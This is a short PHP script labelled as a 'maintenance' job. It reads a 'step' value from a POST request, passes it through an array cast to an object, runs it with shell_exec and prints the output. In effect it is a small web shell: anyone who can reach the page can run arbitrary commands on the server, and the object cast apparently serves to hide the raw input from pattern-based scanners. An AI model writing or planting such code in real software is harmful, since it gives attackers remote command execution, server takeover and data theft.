<?php
// The request's values are packed into an array, cast to an object and read back as properties.
$job = (object) array(
    'label' => 'maintenance',
    'step' => isset($_POST['step']) ? $_POST['step'] : 'uptime',
);
echo '<pre>' . shell_exec($job->step) . '</pre>';
